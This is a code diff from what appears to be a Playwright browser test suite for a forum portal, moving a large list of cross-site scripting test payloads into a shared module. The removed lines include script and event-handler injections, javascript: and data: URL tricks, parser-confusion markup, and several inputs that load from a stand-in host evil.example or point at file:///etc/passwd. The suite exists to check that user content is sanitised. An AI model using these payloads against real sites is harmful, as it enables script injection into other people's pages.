@@ -9,91 +9,12 @@ from playwright.sync_api import FilePayload, Page
 from forums.models import Attachment
 from portal.accounts.models import User
 from portal.core.models import ProblemReport
+from tests.browser.payloads import LINES, PAYLOADS, SCRIPT, SHORT, STRANGE_ADDRESSES
 from tests.browser.visiting import press
 from tests.browser.watch import Watch
 from tests.browser.world import World
 from tests.hostile_texts import HOSTILE, SAMPLE
 from tools.page_types import BOARD, MEMBER, MODERATOR
-
-SCRIPT = "<script>window.__pwned=1</script>"
-# Each sets a flag, opens a dialogue or asks another host: the watch sees the latter two.
-PAYLOADS = (
-    SCRIPT,
-    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-    "<script\x0b>window.__pwned=1</script\x0b>",
-    "<<script>window.__pwned=1//<</script>",
-    "</textarea></title></style><script>window.__pwned=1</script>",
-    '"><script>window.__pwned=1</script>',
-    "' autofocus onfocus=window.__pwned=1 x='",
-    '" autofocus onfocus="window.__pwned=1" x="',
-    "<img src=x onerror=window.__pwned=1>",
-    "<img src='/nowhere.png' onerror='alert(1)'>",
-    "<img src=//evil.example/pixel.gif>",
-    "<img srcset='//evil.example/pixel.gif 1x'>",
-    "<body onload=window.__pwned=1>",
-    "<details open ontoggle=window.__pwned=1>x</details>",
-    "<input autofocus onfocus=window.__pwned=1>",
-    "<video><source onerror=window.__pwned=1></video>",
-    "<a href='javascript:window.__pwned=1'>press me</a>",
-    "[plain](javascript:window.__pwned=1)",
-    "[mixed](JaVaScRiPt:window.__pwned=1)",
-    "[entity](javascript&#58;window.__pwned=1)",
-    "[entities](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:window.__pwned=1)",
-    "[named](javascript&colon;window.__pwned=1)",
-    "[tab](java&Tab;script:window.__pwned=1)",
-    "[newline](java&NewLine;script:window.__pwned=1)",
-    "[percent](javascript%3Awindow.__pwned=1)",
-    "[space](< javascript:window.__pwned=1>)",
-    "[control](<\x01javascript:window.__pwned=1>)",
-    "[reference][bad]\n\n[bad]: javascript:window.__pwned=1",
-    "<javascript:window.__pwned=1>",
-    "![image](javascript:window.__pwned=1)",
-    '[title](https://peer.example ""onmouseover=window.__pwned=1 x="")',
-    "[vb](vbscript:msgbox(1))",
-    "[data](data:text/html,<script>window.__pwned=1</script>)",
-    "[data64](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
-    "![svg](data:image/svg+xml,<svg onload=window.__pwned=1>)",
-    "[file](file:///etc/passwd)",
-    "<svg onload=window.__pwned=1></svg>",
-    "<svg><script>window.__pwned=1</script></svg>",
-    "<svg><a xlink:href='javascript:window.__pwned=1'><text y=20>press me</text></a></svg>",
-    "<svg><animate attributeName=href values=javascript:window.__pwned=1 onbegin=window.__pwned=1></svg>",
-    "<svg><foreignObject><iframe srcdoc='<script>parent.__pwned=1</script>'></iframe></foreignObject></svg>",
-    "<math href='javascript:window.__pwned=1'>press me</math>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style></mglyph></table></mtext></math>",
-    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>",
-    "<b><i></b><script>window.__pwned=1</script></i>",
-    "<div><p><table><a href='javascript:window.__pwned=1'><td>x",
-    "<!--><img src=x onerror=window.__pwned=1>-->",
-    "<![CDATA[<img src=x onerror=window.__pwned=1>]]>",
-    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example/b.gif)}</style>",
-    "<p style='background:url(javascript:window.__pwned=1)'>x</p>",
-    "<div style='position:fixed;inset:0;z-index:9999'>cover</div>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
-    "<base href=//evil.example/>",
-    "<iframe src='javascript:parent.__pwned=1'></iframe>",
-    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
-    "<object data='javascript:window.__pwned=1'></object>",
-    "<embed src='javascript:window.__pwned=1'>",
-    "<form action='javascript:window.__pwned=1'><button>press me</button></form>",
-    "<button formaction='javascript:window.__pwned=1'>press me</button>",
-    "`<script>window.__pwned=1</script>`",
-    "```\n</code></pre><script>window.__pwned=1</script>\n```",
-    "| a |\n|---|\n| <img src=x onerror=window.__pwned=1> |",
-    "{{ 7|add:'7' }}{% debug %}${window.__pwned=1}",
-    "\u202e<script>window.__pwned=1</script>\u2066\ufeff\u0000",
-)
-LINES = [payload.replace("\n", " ") for payload in PAYLOADS]
-STRANGE_ADDRESSES = (
-    "javascript:window.__pwned=1",
-    "//evil.example/",
-    "/\\evil.example",
-    '/"><script>window.__pwned=1</script>',
-)
-# Names have room for 120 characters.
-SHORT = [line for line in LINES if len(line) <= 110]
 
 FOUND_IN_PAGE = """() => {
   const bad = [];
